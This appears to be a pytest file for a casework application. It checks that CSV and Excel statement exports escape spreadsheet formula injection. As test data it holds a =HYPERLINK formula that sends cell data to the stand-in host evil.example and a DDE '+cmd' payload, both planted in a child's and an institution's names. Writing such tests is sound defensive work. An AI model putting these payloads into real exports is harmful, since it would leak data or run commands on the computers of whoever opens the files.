"""No export hands a spreadsheet a formula: a child renamed =HYPERLINK(...) or an
institution named +cmd goes into every statement as text. Every CSV route (found from the
app's routes) and every .xlsx statement is read back; one writer makes every CSV."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from casework.models import Child, Claim, Institution
from casework.rules.text import spreadsheet_text
from tests.conftest import NOW
from tests.web.conftest import API, auth
from tests.web.pages.conftest import Browser

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
RUNS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
# every route answering a .csv, as the app's url map names them; a new one must be added here
CSV_ROUTES = {
    "/api/v1/claims/<int:claim_id>/statement",
    "/api/v1/claims/statement",
    "/claims/<int:claim_id>/statement.<kind>",
    "/claims/statement.<kind>",
}


@pytest.mark.parametrize(
    "value, shown",
    [("=1+1", "'=1+1"), ("+86 138", "'+86 138"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-12.50", "-12.50"), ("王小明", "王小明"), ("", "")],
)  # fmt: skip
def test_a_cell_that_would_run_is_shown_as_text(value, shown):
    assert spreadsheet_text(value) == shown


@pytest.fixture
def hostile_claim(world):
    application = world.application()
    world.advance(application.id, "settled")
    claim = Claim.get()
    Child.update(name=HOSTILE).where(Child.id == application.child_id).execute()
    Institution.update(name="+cmd|' /C calc'!A0").where(
        Institution.id == claim.institution_id
    ).execute()
    return claim


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def assert_inert_csv(data: bytes, where: str):
    cells = csv_cells(data)
    assert "'" + HOSTILE in cells, where  # the hostile name is there, as text
    running = [c for c in cells if c.startswith(RUNS) and not PLAIN_NUMBER.fullmatch(c)]
    assert running == [], where


def assert_inert_xlsx(data: bytes, where: str):
    book = load_workbook(io.BytesIO(data))
    formulas = [c.value for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [], where
    assert HOSTILE in [c.value for row in book["结算明细"].iter_rows() for c in row], where


def test_every_csv_route_is_checked(app):
    rules = {rule.rule for rule in app.url_map.iter_rules() if "GET" in rule.methods}
    assert {r for r in rules if "statement" in r or "csv" in r or "export" in r} == CSV_ROUTES


def test_every_statement_keeps_a_hostile_name_as_text(app, client, world, hostile_claim):
    app.config["CASEWORK_CLOCK"] = lambda: NOW
    claim = hostile_claim
    auditor = auth(world.a, "settlement_auditor")
    for fmt, check in (("csv", assert_inert_csv), ("xlsx", assert_inert_xlsx)):
        for url in (f"{API}/claims/{claim.id}/statement?format={fmt}",
                    f"{API}/claims/statement?period={claim.period}&format={fmt}"):  # fmt: skip
            response = client.get(url, headers=auditor)
            assert response.status_code == 200, response.get_data(as_text=True)
            check(response.data, url)
    browser = Browser(app)
    assert browser.sign_in(world.a.users["settlement_auditor"].username).status_code == 302
    for fmt, check in (("csv", assert_inert_csv), ("xlsx", assert_inert_xlsx)):
        for url in (f"/claims/{claim.id}/statement.{fmt}",
                    f"/claims/statement.{fmt}?period={claim.period}"):  # fmt: skip
            response = browser.client.get(url)
            assert response.status_code == 200, url
            check(response.data, url)


def test_one_writer_makes_every_csv():
    writers = [
        str(path.relative_to(ROOT))
        for layer in ("casework", "web", "jobs", "scripts")
        for path in (ROOT / layer).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text("utf-8"))
    ]
    assert writers == ["casework/services/csv_files.py"]
